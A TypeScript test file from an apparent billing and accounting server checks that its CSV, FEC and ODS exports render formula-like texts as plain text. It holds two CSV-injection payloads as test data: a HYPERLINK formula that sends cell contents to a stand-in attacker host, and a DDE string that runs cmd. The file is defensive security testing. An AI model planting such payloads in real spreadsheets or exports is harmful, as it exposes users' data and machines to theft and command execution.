import assert from "node:assert/strict";
import { test } from "node:test";
import { strFromU8, unzipSync } from "fflate";
import pg from "pg";
import { routes } from "#server/routes.ts";
import { testApp } from "../harness/app.ts";
import { closeAndOrder, issue, periodPath, worked } from "../harness/billing.ts";
import { MIRAMAS } from "../harness/desk.ts";
import { nameOf } from "./doors.ts";

/**
 * Spreadsheets and files of the accountant, through their doors, over data whose texts are formulas (OWASP, CSV
 * injection). A door that answers with such a file and is not tried here fails the last test.
 */
const FORMULA = '=HYPERLINK("https://mechant.exemple/?"&A1;"Cliquez")';
const AT = '@SUM(1+1)*cmd|" /C calc"!A0';
const app = await testApp({ now: "2023-10-02T08:00:00Z" });
const billing = app.as("billing");
const tried = new Set<string>();

async function file(path: string): Promise<Uint8Array> {
  const answer = await billing.get(path);
  assert.equal(answer.status, 200, `${path} ${String(answer.message)}`);
  tried.add(path.replace(/\?.*/, "").replace(/.*\//, ""));
  return answer.bytes;
}

/** What an administrator might have typed long ago: the client's own name. */
async function owner(statement: string): Promise<void> {
  const client = new pg.Client({ connectionString: app.ownerUrl });
  await client.connect();
  try {
    await client.query(`select set_config('vigie.clients', $1, false)`, [app.clientId("MIR")]);
    assert.equal((await client.query(statement)).rowCount, 1);
  } finally {
    await client.end();
  }
}

/** The cells as a spreadsheet cuts them, quotes taken off. */
const cellsOf = (text: string, between: string): string[] =>
  [
    ...text.replace("\uFEFF", "").matchAll(new RegExp(`(?<=^|${between}|\n)("(?:[^"]|"")*"|[^${between}\r\n]*)`, "g")),
  ].map(([cell]) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
const strikes = (cell: string): boolean => /^[\s]*[=+@]/.test(cell) || /^[\s]*-(?![\d\s.,]+$)/.test(cell);

test("attack: CSV injection: texts that are formulas leave every export of the books and of a quarter as text", async () => {
  await owner(`update party.client set name = '${AT.replaceAll("'", "''")}' where code = 'MIR'`);
  const source = MIRAMAS.replace("name: Commune de Miramas", `name: '${FORMULA}'`);
  assert.ok(source.includes(FORMULA), "the client has no such name in the contract");
  const loaded = await app.as("administrator").post("/clients/MIR/contracts", { source });
  assert.equal(loaded.status, 200, String(loaded.message));
  await worked(app, FORMULA, "2023-10-03T08:00:00Z", 40);
  await worked(app, AT, "2023-10-04T08:00:00Z", 20);
  app.clock.set(Temporal.Instant.from("2024-01-02T08:00:00Z"));
  await closeAndOrder(app, "2023-10-01", {
    number: "+33-1",
    amount: "100.00",
    withTax: false,
    receivedOn: "2024-01-02",
  });
  const invoice = await issue(billing, [["M2-lots", "2023-10-01"]]);
  assert.equal(invoice.status, 200, String(invoice.message));
  const quarter = periodPath("2023-10-01");
  const days = "from=2023-10-01&to=2024-12-31";
  const recap = new TextDecoder().decode(await file(`${quarter}/recap.csv`));
  assert.ok(recap.includes("HYPERLINK") && recap.includes("SUM(1+1)"), recap);
  const texts: [string, string][] = [[recap, ";"]];
  for (const book of ["sales.csv", "payments.csv"])
    texts.push([new TextDecoder().decode(await file(`/clients/MIR/books/${book}?${days}`)), ";"]);
  texts.push([new TextDecoder().decode(await file(`/clients/MIR/books/fec?${days}`)), "\t"]);
  for (const [text, between] of texts) assert.deepEqual(cellsOf(text, between).filter(strikes), []);
});

test("attack: ODS injection: a cell that holds a formula is a text, never a formula that the sheet computes", async () => {
  const contract = "/clients/MIR/contracts/miramas-infogerance";
  for (const path of [`${periodPath("2023-10-01")}/recap.ods`, `${contract}/years/2023-10-01/report.ods`]) {
    const sheet = strFromU8(unzipSync(await file(path))["content.xml"] ?? new Uint8Array());
    assert.match(sheet, /office:value-type="string"[^>]*><text:p>=HYPERLINK/);
    assert.doesNotMatch(sheet, /table:formula|of:=/);
  }
});

test("every door that answers with a spreadsheet or an accountant's file was tried", () => {
  const sheets = routes.filter(
    ({ answer, path }) => !answer && /(\.(csv|ods)|\/fec)$/.test(path.replace(":file", ".csv")),
  );
  const missed = sheets.filter(({ path }) => !tried.has(path.replace(/.*\//, "")) && !path.endsWith(":file"));
  assert.deepEqual(missed.map(nameOf), []);
  assert.ok(sheets.length >= 5, sheets.map(nameOf).join(", "));
});
